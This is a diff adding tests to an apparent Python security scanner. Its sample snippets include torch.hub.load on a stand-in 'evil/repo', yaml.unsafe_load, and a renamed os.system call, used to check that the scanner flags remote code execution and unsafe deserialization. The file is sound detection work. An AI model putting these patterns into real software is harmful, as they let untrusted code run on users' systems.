@@ -185,3 +185,13 @@ def test_reversed_and_joined_names_are_resolved() -> None:
 def test_callable_bound_to_a_plain_name_is_resolved() -> None:
     src = "import os\nrun_it = os.system\ndef f():\n    run_it('true')\n"
     assert _scan(src) == [("REMOTE-CODE-010", Severity.HIGH)]
+
+
+def test_torch_hub_load_runs_code_from_github() -> None:
+    assert _scan("import torch\ndef f():\n    return torch.hub.load('evil/repo', 'm')\n") == [
+        ("REMOTE-CODE-011", Severity.HIGH)
+    ]
+
+
+def test_yaml_unsafe_load_is_deserialization() -> None:
+    assert _scan("import yaml\ndef f(t):\n    return yaml.unsafe_load(t)\n") == [("REMOTE-CODE-016", Severity.HIGH)]
